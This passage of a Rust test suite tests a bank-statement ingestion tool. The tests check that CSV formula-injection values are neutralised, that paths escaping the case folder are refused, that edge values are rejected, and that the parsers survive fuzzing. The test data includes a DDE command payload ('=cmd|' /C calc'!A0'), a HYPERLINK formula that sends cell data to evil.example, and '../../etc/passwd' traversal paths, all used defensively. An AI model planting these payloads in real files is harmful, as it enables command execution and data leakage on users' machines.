    assert_inert(&run.output("rejects.csv"), &["line"]);
    assert_inert(&run.output("skipped.csv"), &["line"]);
    assert_inert(&run.output("sources.csv"), &["money_in", "money_out"]);

    // The CSV copy shows each payload with a leading apostrophe...
    assert_eq!(
        run.ledger_column("description"),
        [
            "'=1+1",
            "'+SUM(1;2)",
            "'-cmd",
            "'@ref",
            "'\tTAB REF",
            "'\rCR REF"
        ]
    );
    assert_eq!(
        run.ledger_column("counterparty_name"),
        [
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "'+44 20 7946 0000",
            "'-2+3",
            "'@SUM(A1)",
            "TAB NAME",
            "CR NAME"
        ]
    );
    assert_eq!(
        run.ledger_column("bank_type"),
        [
            "'=cmd|' /C calc'!A0",
            "'+TRANSFER",
            "'-TYPE",
            "'@TYPE",
            "TAB TYPE",
            "CR TYPE"
        ]
    );
    assert!(run
        .ledger_column("exhibit")
        .iter()
        .all(|e| e == "'=HYPERLINK(\"http://evil.example\")"));
    // ... and the rejected row's fields are reported, not executed.
    let rejects = run.rejects();
    assert_eq!(rejects.len(), 1);
    assert_eq!(rejects[0].0, "8");
    assert_eq!(rejects[0].1, "amount");
    assert!(rejects[0].3.starts_with("07/02/2024,=BAD ROW"));

    // The parquet ledger is the evidential copy: the text exactly as disclosed.
    let file = std::fs::File::open(run.output("ledger.parquet")).unwrap();
    use polars::prelude::SerReader;
    let df = polars::prelude::ParquetReader::new(file).finish().unwrap();
    let column = |name: &str| -> Vec<String> {
        df.column(name)
            .unwrap()
            .str()
            .unwrap()
            .iter()
            .map(|v| v.unwrap_or("").to_string())
            .collect()
    };
    assert_eq!(
        column("description"),
        ["=1+1", "+SUM(1;2)", "-cmd", "@ref", "\tTAB REF", "\rCR REF"]
    );
    assert_eq!(column("bank_type")[0], "=cmd|' /C calc'!A0");
    assert_eq!(column("exhibit")[0], "=HYPERLINK(\"http://evil.example\")");
}

// ---- The case folder --------------------------------------------------------------------

#[test]
fn a_source_path_climbing_out_of_the_case_folder_is_refused() {
    let run = run_case_fixture("traversal.toml", &[]);
    run.assert_failed(
        2,
        &[
            "sources[0].path",
            "\"../../etc/passwd\"",
            "points outside the case folder",
            "--allow-outside-case-dir",
        ],
    );
    // With the flag the path is followed, and a missing file is still a clear error.
    let run = run_case_fixture("traversal.toml", &["--allow-outside-case-dir"]);
    run.assert_failed(2, &["sources[0].path", "cannot be opened"]);
}

#[test]
fn an_absolute_source_path_is_refused_unless_allowed() {
    let run = run_case_fixture("absolute.toml", &[]);
    run.assert_failed(
        2,
        &[
            "sources[0].path",
            "\"/etc/passwd\"",
            "points outside the case folder",
        ],
    );
    if Path::new("/etc/passwd").is_file() {
        // Allowed, /etc/passwd is read as what the case says it is, and is not a statement.
        let run = run_case_fixture("absolute.toml", &["--allow-outside-case-dir"]);
        run.assert_failed(
            2,
            &["source /etc/passwd (layout lloyds)", "no header found"],
        );
    }
}

#[cfg(unix)]
#[test]
fn a_symlink_out_of_the_case_folder_is_refused_unless_allowed() {
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("statement.csv");
    std::fs::copy(fixture("hostile/truncated_mid_row.csv"), &target).unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(&target, dir.path().join("statement.csv")).unwrap();
    let case = dir.path().join("case.toml");
    std::fs::write(
        &case,
        case_toml("statement.csv", "lloyds", Account::UkCurrent, "X"),
    )
    .unwrap();
    let before = sha256_file(&target).unwrap();
    let refused = exec(proceeds(), &case, tempfile::tempdir().unwrap(), &[]);
    refused.assert_failed(
        2,
        &[
            "sources[0].path",
            "\"statement.csv\"",
            "outside the case folder",
            "--allow-outside-case-dir",
        ],
    );
    let allowed = exec(proceeds(), &case, dir, &["--allow-outside-case-dir"]);
    allowed.assert_ok();
    assert_eq!(allowed.ledger_column("amount"), ["500.00", "-23.45"]);
    assert_eq!(before, sha256_file(&target).unwrap());
}

#[cfg(unix)]
#[test]
fn a_symlink_to_a_device_is_refused_even_when_allowed() {
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("statement.csv")).unwrap();
    let case = dir.path().join("case.toml");
    std::fs::write(
        &case,
        case_toml("statement.csv", "lloyds", Account::UkCurrent, "X"),
    )
    .unwrap();
    let run = exec(proceeds(), &case, dir, &["--allow-outside-case-dir"]);
    run.assert_failed(2, &["sources[0].path", "is not a file"]);
}

#[test]
fn duplicate_account_keys_are_refused() {
    let run = run_case_fixture("duplicate_accounts.toml", &[]);
    run.assert_failed(
        2,
        &[
            "accounts[1].id",
            "\"ACC\" is declared twice; account keys must be unique",
        ],
    );
}

#[test]
fn a_layout_with_an_invalid_date_format_is_refused_before_any_file_is_read() {
    let run = run_case_fixture("bad_strftime_layout.toml", &["--allow-outside-case-dir"]);
    run.assert_failed(
        2,
        &[
            "layout bad_strftime.layout.toml",
            "`layout.date_format` is \"%d/%m/%Y %Q\", which holds a specifier that is not a valid date or time format",
        ],
    );
}

#[test]
fn a_deeply_nested_case_file_is_a_syntax_error_not_a_crash() {
    let run = run_case_fixture("deep_nesting.toml", &[]);
    run.assert_failed(2, &["deep_nesting.toml is not valid"]);
}

// ---- Edge values ----------------------------------------------------------------------

#[test]
fn csv_edge_values_are_rejected_or_kept_exactly() {
    let run = run_fixture("edge_values.csv", "lloyds", Account::UkCurrent);
    run.assert_ok();
    let rejects: Vec<(String, String, String)> = run
        .rejects()
        .into_iter()
        .map(|(line, field, reason, _)| (line, field, reason))
        .collect();
    let expected = [
        ("2", "date", "date \"01/01/1900\" reads as 1900-01-01, outside 1970-01-01 to 2099-12-31; check the layout's date format"),
        ("3", "date", "date \"01/01/2100\" reads as 2100-01-01, outside 1970-01-01 to 2099-12-31; check the layout's date format"),
        ("6", "debit", "amount \"123456789012345678901234567890\" is too large for the ledger (at most 16 digits before the decimal point)"),
        ("7", "credit", "amount \"123,456,789,012,345,678,901,234,567,890.00\" is too large for the ledger (at most 16 digits before the decimal point)"),
        ("9", "debit", "amount \"10000000000000000.00\" is too large for the ledger (at most 16 digits before the decimal point)"),
    ];
    let expected: Vec<(String, String, String)> = expected
        .iter()
        .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
        .collect();
    assert_eq!(rejects, expected);
    let descriptions = run.ledger_column("description");
    let amounts = run.ledger_column("amount");
    let by_description: Vec<(String, String)> = descriptions.into_iter().zip(amounts).collect();
    let expect = |d: &str, a: &str| {
        assert!(
            by_description.contains(&(d.to_string(), a.to_string())),
            "{d} {a} not in {by_description:?}"
        )
    };
    expect("FIRST DAY ACCEPTED", "-1.00");
    expect("LAST DAY ACCEPTED", "-1.00");
    expect("SIXTEEN DIGITS", "-9999999999999999.99");
    // Negative zero is zero, in the amount and the balance.
    expect("NEGATIVE ZERO DEBIT", "0.00");
    expect("NEGATIVE ZERO CREDIT", "0.00");
    assert!(!run
        .ledger_column("balance")
        .iter()
        .any(|b| b.starts_with("-0")));
}

#[test]
fn camt_edge_values_are_rejected_not_rounded() {
    let run = run_fixture("camt_edge_values.xml", "camt", Account::GermanIban);
    run.assert_ok();
    let rejects: Vec<(String, String)> = run
        .rejects()
        .into_iter()
        .map(|(_, field, reason, _)| (field, reason))
        .collect();
    let expected = [
        ("date", "date 1900-01-01 is outside 1970-01-01 to 2099-12-31, the dates the ledger accepts"),
        ("date", "date 2100-01-01 is outside 1970-01-01 to 2099-12-31, the dates the ledger accepts"),
        ("Ntry/Amt", "amount \"123456789012345678901234567890.00\" is not a decimal number with a decimal point (expected e.g. 1234.56)"),
        ("amount", "amount 12345678901234567890.00 is too large for the ledger (at most 16 digits before the decimal point)"),
        ("amount", "amount 1.005 has more than 2 decimal places; the ledger keeps pence exactly and will not round"),
        ("Ntry/Amt", "amount \"-1.00\" is not a decimal number with a decimal point (expected e.g. 1234.56)"),
    ];
    let expected: Vec<(String, String)> = expected
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect();
    assert_eq!(rejects, expected);
    assert_eq!(run.ledger_column("amount"), ["0.00", "12.50"]);
}

#[test]
fn ofx_edge_values_are_rejected_not_rounded() {
    let run = run_fixture("ofx_edge_values.ofx", "ofx", Account::UkIban);
    run.assert_ok();
    let rejects: Vec<(String, String)> = run
        .rejects()
        .into_iter()
        .map(|(_, field, reason, _)| (field, reason))
        .collect();
    let expected = [
        ("date", "date 1900-01-01 is outside 1970-01-01 to 2099-12-31, the dates the ledger accepts"),
        ("date", "date 2100-01-01 is outside 1970-01-01 to 2099-12-31, the dates the ledger accepts"),
        ("TRNAMT", "amount \"-123456789012345678901234567890.00\" is not a signed decimal number with one decimal separator (expected e.g. -12.50)"),
        ("amount", "amount -12345678901234567890.00 is too large for the ledger (at most 16 digits before the decimal point)"),
        ("amount", "amount -1.005 has more than 2 decimal places; the ledger keeps pence exactly and will not round"),
    ];
    let expected: Vec<(String, String)> = expected
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect();
    assert_eq!(rejects, expected);
    assert_eq!(run.ledger_column("amount"), ["0.00", "12.50"]);
}

#[test]
fn mt940_edge_values_are_rejected_not_rounded() {
    let run = run_fixture("mt940_edge_values.sta", "mt940", Account::GermanIban);
    run.assert_ok();
    let rejects: Vec<(String, String, String)> = run
        .rejects()
        .into_iter()
        .map(|(line, field, reason, _)| (line, field, reason))
        .collect();
    let expected = [
        ("5", ":61: amount", "amount \"123456789012345678901234567890,00\" is not a number with a decimal comma (expected e.g. 1234,56)"),
        ("7", "amount", "amount -12345678901234567890.00 is too large for the ledger (at most 16 digits before the decimal point)"),
        ("9", "amount", "amount -1.005 has more than 2 decimal places; the ledger keeps pence exactly and will not round"),
    ];
    let expected: Vec<(String, String, String)> = expected
        .iter()
        .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
        .collect();
    assert_eq!(rejects, expected);
    assert_eq!(run.ledger_column("amount"), ["0.00", "12.50"]);
}

// ---- Seed corpus and mutations: every parser, never a panic ------------------------------
//
// CI does not run the fuzzer (see `docs/testing.md`); it runs every reader over every seed
// file of the fuzz corpora (the fixtures) and over mutated copies of each: truncations,
// byte flips, inserted delimiters and markup, and the file doubled. Any crash the fuzzer
// finds is kept under `fuzz/regressions/` and replayed here too.

/// A seed file and the layout it is read with.
fn statement_seeds() -> Vec<(PathBuf, &'static str, &'static str)> {
    let mut seeds = Vec::new();
    let layouts_dir = fixture("layouts");
    for entry in std::fs::read_dir(&layouts_dir).unwrap() {
        let dir = entry.unwrap().path();
        let id = dir.file_name().unwrap().to_string_lossy().into_owned();
        let layout: &'static str = Box::leak(id.into_boxed_str());
        let currency = if matches!(layout, "camt" | "mt940" | "ofx") {
            "EUR"
        } else {
            "GBP"
        };
        for file in std::fs::read_dir(&dir).unwrap() {
            let file = file.unwrap().path();
            let name = file.file_name().unwrap().to_string_lossy().into_owned();
            if name != "case.toml" && !name.starts_with("expected") {
                seeds.push((file, layout, currency));
            }
        }
    }
    for (dir, layout, currency) in [
        ("formats/camt", "camt", "EUR"),
        ("formats/mt940", "mt940", "EUR"),
        ("formats/ofx", "ofx", "EUR"),
    ] {
        for file in std::fs::read_dir(fixture(dir)).unwrap() {
            seeds.push((file.unwrap().path(), layout, currency));
        }
    }
    for file in std::fs::read_dir(fixture("hostile")).unwrap() {
        let file = file.unwrap().path();
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let (layout, currency) = match file.extension().and_then(|e| e.to_str()) {
            Some("xml") => ("camt", "EUR"),
            Some("ofx") => ("ofx", "GBP"),
            Some("sta") => ("mt940", "EUR"),
            Some("csv") if name == "formulas.csv" => ("starling", "GBP"),
            Some("xls" | "xlsx" | "ods") => ("lloyds", "GBP"),
            Some("csv") => ("lloyds", "GBP"),
            _ => continue,
        };
        seeds.push((file, layout, currency));
    }
    for name in ["lloyds_business.xlsx", "lloyds_old.xls"] {
        seeds.push((fixture(&format!("spreadsheets/{name}")), "lloyds", "GBP"));
    }
    // Crashes found by the fuzzer, kept as regressions: fuzz/regressions/<layout>/<file>.
    let regressions = crate::support::root().join("fuzz/regressions");
    if let Ok(dirs) = std::fs::read_dir(&regressions) {
        for dir in dirs.flatten() {
            let layout: &'static str = Box::leak(
                dir.file_name()
                    .to_string_lossy()
                    .into_owned()
                    .into_boxed_str(),
            );
            if let Ok(files) = std::fs::read_dir(dir.path()) {
                for f in files.flatten() {
                    seeds.push((f.path(), layout, "GBP"));
                }
            }
        }
    }
    seeds.sort();
    seeds
}

/// Deterministic mutations of `bytes`: (what was done, the mutated bytes).
pub(crate) fn mutations(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let n = bytes.len();
    let mut out = Vec::new();
    let mut cuts: Vec<usize> = (0..16).map(|k| n * k / 16).collect();
    cuts.push(n.saturating_sub(1));
    cuts.dedup();
    for cut in cuts {
        out.push((format!("truncated to {cut} bytes"), bytes[..cut].to_vec()));
    }
    if n > 0 {
        for k in 0..24 {
            let at = (n * k / 24 + k * 7) % n;
            for x in [0x01u8, 0x80, 0xFF] {
                let mut m = bytes.to_vec();
                m[at] ^= x;
                out.push((format!("byte {at} xor {x:#04x}"), m));
            }
        }
    }
    for k in 0..8 {
        let at = n * k / 8;
        for b in [b'"', b'<', b'\n', b':', b'&', b',', b'\r', 0u8] {
            let mut m = bytes.to_vec();
            m.insert(at, b);
            out.push((format!("inserted {b:#04x} at {at}"), m));
        }
    }
    let mut doubled = bytes.to_vec();
    doubled.extend_from_slice(bytes);
    out.push(("the file twice".to_string(), doubled));
    out
}

/// Read one file through the whole ingest path (decode, split, read fields, assign) and
/// check the accounting holds; a panic is caught and named.
fn ingest_one(
    path: &Path,
    layout: &proceeds::ingest::layout::Layout,
    currency: &str,
) -> Result<(), String> {
    let case =
        proceeds::case::Case::ad_hoc(path, &layout.id, currency).map_err(|e| e.to_string())?;
    let mut builder = proceeds::ledger::LedgerBuilder::new();
    let (mut rejects, mut skipped, mut statements) = (Vec::new(), Vec::new(), Vec::new());
    let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        proceeds::ingest::ingest_source(
            &case,
            &case.sources[0],
            layout,
            &mut builder,
            &mut rejects,
            &mut skipped,
            &mut statements,
        )
    }));
    match result {
        Err(_) => Err("PANIC".to_string()),
        Ok(Err(e)) if e.is_internal() => Err(format!("internal error: {e}")),
        Ok(Err(_)) => Ok(()),
        Ok(Ok(report)) => {
            if report.records_read != report.accepted + report.rejected + report.skipped {
                return Err(format!("unbalanced: {report:?}"));
            }
            if builder.len() < report.accepted as usize {
                return Err("fewer ledger rows than accepted records".into());
            }
            Ok(())
        }
    }
}

#[test]
fn every_reader_survives_every_seed_and_its_mutations() {
    let registry = proceeds::ingest::Registry::shipped().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let mut failures = Vec::new();
    let mut runs = 0usize;
    for (seed, layout_id, currency) in statement_seeds() {
        let Some(layout) = registry.get(layout_id) else {
            continue;
        };
        let bytes = std::fs::read(&seed).unwrap();
        let ext = seed.extension().and_then(|e| e.to_str()).unwrap_or("csv");
        let target = scratch.path().join(format!("input.{ext}"));
        let mut variants = vec![("as is".to_string(), bytes.clone())];
        variants.extend(mutations(&bytes));
        for (what, variant) in variants {
            // Format detection (`proceeds ingest FILE` without --layout) reads the same bytes.
            let detected = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                proceeds::ingest::detect::detect(&variant, &registry)
            }));
            if detected.is_err() {
                failures.push(format!("{} (detect), {what}: PANIC", seed.display()));
            }
            std::fs::write(&target, &variant).unwrap();
            runs += 1;
            if let Err(e) = ingest_one(&target, layout, currency) {
                failures.push(format!("{} ({layout_id}), {what}: {e}", seed.display()));
            }
        }
    }
    assert!(runs > 5000, "only {runs} runs");
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn layout_and_case_files_survive_mutations() {
    let mut failures = Vec::new();
    let mut layout_seeds: Vec<PathBuf> =
        std::fs::read_dir(crate::support::root().join("rules/formats"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
    layout_seeds.push(fixture("verify/layouts/fictional-euro.toml"));
    layout_seeds.push(fixture("spreadsheets/lloyds-workbook.toml"));
    for seed in layout_seeds {
        let bytes = std::fs::read(&seed).unwrap();
        for (what, variant) in mutations(&bytes) {
            let text = String::from_utf8_lossy(&variant);
            let r = std::panic::catch_unwind(|| {
                proceeds::ingest::layout::Layout::from_toml(&text, "mutated")
            });
            if r.is_err() {
                failures.push(format!("{}: {what}: PANIC", seed.display()));
            }
        }
    }
    // The case files, each in a copy of its folder so that the files it names resolve.
    let mut case_seeds = vec![
        fixture("demo/case.toml"),
        fixture("verify/case.toml"),
        fixture("bad-rows/case.toml"),
        fixture("spreadsheets/case.toml"),
    ];
    for dir in std::fs::read_dir(fixture("hostile/cases")).unwrap() {
        case_seeds.push(dir.unwrap().path());
    }
    for seed in case_seeds {
        let scratch = tempfile::tempdir().unwrap();
        crate::support::copy_dir(seed.parent().unwrap(), scratch.path());
        let target = scratch.path().join("mutated-case.toml");
        let bytes = std::fs::read(&seed).unwrap();
        for (what, variant) in mutations(&bytes) {
            std::fs::write(&target, &variant).unwrap();
            let r = std::panic::catch_unwind(|| {
                proceeds::case::Case::load(&target, proceeds::case::ResolveOptions::default())
            });
            if r.is_err() {
                failures.push(format!("{}: {what}: PANIC", seed.display()));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

// ---- Nothing but the report writer opens a file for writing ------------------------------

/// Inputs are never opened for writing: outside tests, the only calls that create, write,
/// rename, remove or change files are in `src/report/mod.rs` (`write_atomic` into the output
/// folder, and creating that folder). A new one elsewhere fails this test and must be
/// justified here.
#[test]
fn only_the_report_writer_writes_files() {
    const WRITES: [&str; 12] = [
        "File::create",
        "File::options",
        "OpenOptions",
        "fs::write",
        "fs::rename",
        "fs::copy",
        "remove_file",
        "remove_dir",
        "set_permissions",
        "set_len",
        "create_dir",
        "hard_link",
    ];
    let mut found = Vec::new();
    let mut stack = vec![crate::support::root().join("src")];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            if path.extension().and_then(|e| e.to_str()) != Some("rs") {
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap();
            // Unit tests sit at the end of each file, after `#[cfg(test)]`.
            let code = text.split("#[cfg(test)]").next().unwrap_or("");
            let rel = path
                .strip_prefix(crate::support::root())
                .unwrap()
                .to_string_lossy()
                .replace('\\', "/");
            for w in WRITES {
                if code.contains(w) {
                    found.push(format!("{rel}: {w}"));
                }
            }
        }
    }
    found.sort();
    assert_eq!(
        found,
        [
            "src/report/mod.rs: File::create",
            "src/report/mod.rs: create_dir",
            "src/report/mod.rs: fs::rename",
            // A run batch by batch writes each batch's ledger into a working file of the
            // output folder, and removes it once the ledger's outputs are written.
            "src/report/mod.rs: remove_file",
            // `proceeds synth` writes a new, fictional case folder; it never opens an input.
            "src/synth.rs: File::create",
            "src/synth.rs: create_dir",
            "src/synth.rs: fs::write",
        ]
    );
}

/// Found by fuzzing: 5 KB that begin as an `.xls` and hold a zip further on. The spreadsheet
/// library's own detection, trying every reader in turn, opened it as an `.ods` without the
/// `.ods` checks, and its table reader looped for good. Now only the reader the container's
/// signature calls for opens it.
#[test]
fn an_xls_signature_over_a_zip_is_read_as_xls_only() {
    let run = run_fixture("xls_then_zip_ods_loop.xls", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source xls_then_zip_ods_loop.xls (layout lloyds), line 1: the spreadsheet cannot be opened: Cfb error: Sector 55267331 points past end of file"],
    );
    // Format detection opens it the same way: no layout fits, and it returns.
    let out = Command::new(env!("CARGO_BIN_EXE_proceeds"))
        .args(["formats", "detect"])
        .arg(fixture("hostile/xls_then_zip_ods_loop.xls"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("no shipped or case layout fits"));
}
